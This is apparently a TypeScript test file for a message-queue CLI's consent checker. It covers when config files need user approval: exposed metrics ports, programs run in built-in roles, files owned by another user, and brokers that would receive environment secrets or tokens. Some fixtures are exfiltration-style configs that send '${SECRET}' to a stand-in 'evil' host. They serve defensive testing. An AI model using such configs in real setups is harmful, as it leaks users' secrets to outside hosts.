// Tests which files need the user's consent, and which do not.

import { test } from 'uvu';
import * as assert from 'uvu/assert';
import builtin from '../../../../rascal.json' with { type: 'json' };
import { templateNames, templates } from '../../../../src/cli/commands/init/templates.ts';
import { risksOf } from '../../../../src/cli/input/risks.ts';

const connection = 'amqp://localhost';
const withHandler = (name: string, handler: unknown) => ({ mq: { roles: { [name]: { consume: 'hello', handler } } } });
const doubts = (file: unknown, owner = 7) => risksOf({ text: JSON.stringify(file), owner }, { uid: 7, builtin });

for (const [what, file] of [
  ['a role that is not built in runs a program', withHandler('thumbnails', { exec: ['./thumb.sh'] })],
  ['a built-in role has a built-in handler', withHandler('worker', { builtin: 'print' })],
  ['a variable is used, and no broker is named', { vhosts: { '/': { queues: { 'q-${STAGE}': {} } } } }],
  ['a broker is named without variables', { vhosts: { '/': { connection } } }],
  ['$${ is a literal ${', { vhosts: { '/': { connection, queues: { q: { options: { x: '$${A}' } } } } } }],
  [
    'a variable is for the program of a role',
    { vhosts: { '/': { connection } }, ...withHandler('own', { exec: ['x'], env: { STAGE: '${STAGE}' } }) },
  ],
  ...templateNames.map((name) => [`mq init ${name} has written it`, templates[name].content] as const),
  ['it is the built-in one', builtin],
  ...[9464, '9464', '127.0.0.1:9464', 'localhost:9464', '[::1]:9464'].map(
    (metrics) =>
      [`metrics are served on ${metrics}`, { mq: { roles: { own: { consume: 'hello', metrics } } } }] as const,
  ),
] as const) {
  test(`no consent is needed if ${what}`, () => assert.equal(doubts(file), []));
}

for (const [what, file, doubt] of [
  ...['0.0.0.0:9464', '[::]:9464', '192.0.2.1:9464', 'example.org:9464', '${HOST}:9464', '${ADDRESS}'].map(
    (metrics) =>
      [
        `metrics are served on ${metrics}`,
        { mq: { roles: { own: { consume: 'hello', metrics } } } },
        'the metrics of its role own would be open to other machines',
      ] as const,
  ),
  ...['exec', 'execLines', 'module'].map(
    (kind) =>
      [
        `a built-in role has ${kind}`,
        withHandler('consumer', { [kind]: ['x'] }),
        'it runs a program in the built-in role consumer',
      ] as const,
  ),
  ...[
    { vhosts: { '/': { connection: { password: '${SECRET:-x}' } } } },
    { vhosts: { '/': { connections: ['amqp://u:${SECRET}@evil'] } } },
    { defaults: { vhosts: { connection: { url: 'amqp://evil/${SECRET}' } } } },
    { vhosts: { '/': { connection } }, publications: { p: { queue: 'q', options: { headers: { h: '${SECRET}' } } } } },
    { vhosts: { '/': { connection } }, mq: { roles: { own: { publish: 'p', text: '${SECRET}' } } } },
  ].map(
    (file, index) =>
      [
        `a broker of the file would receive a variable, ${index + 1}`,
        file,
        'a broker that it names would receive variables of the environment (SECRET)',
      ] as const,
  ),
] as const) {
  test(`consent is needed if ${what}`, () => assert.equal(doubts(file), [doubt]));
}

test("another user's file needs consent, root's does not", () => {
  assert.equal(doubts({}, 8), ['it belongs to another user']);
  assert.equal(doubts({}, 0), []);
});

test('a broker of the file that would receive a token needs consent', () => {
  const doubtsWithToken = (file: unknown) =>
    risksOf({ text: JSON.stringify(file), owner: 7 }, { uid: 7, builtin, token: 'MQ_TOKEN' });
  assert.equal(doubtsWithToken({ vhosts: { '/': { connection } } }), [
    'a broker that it names would receive your token (MQ_TOKEN)',
  ]);
  assert.equal(doubtsWithToken({ vhosts: { '/': { queues: ['q'] } } }), []);
});

test.run();
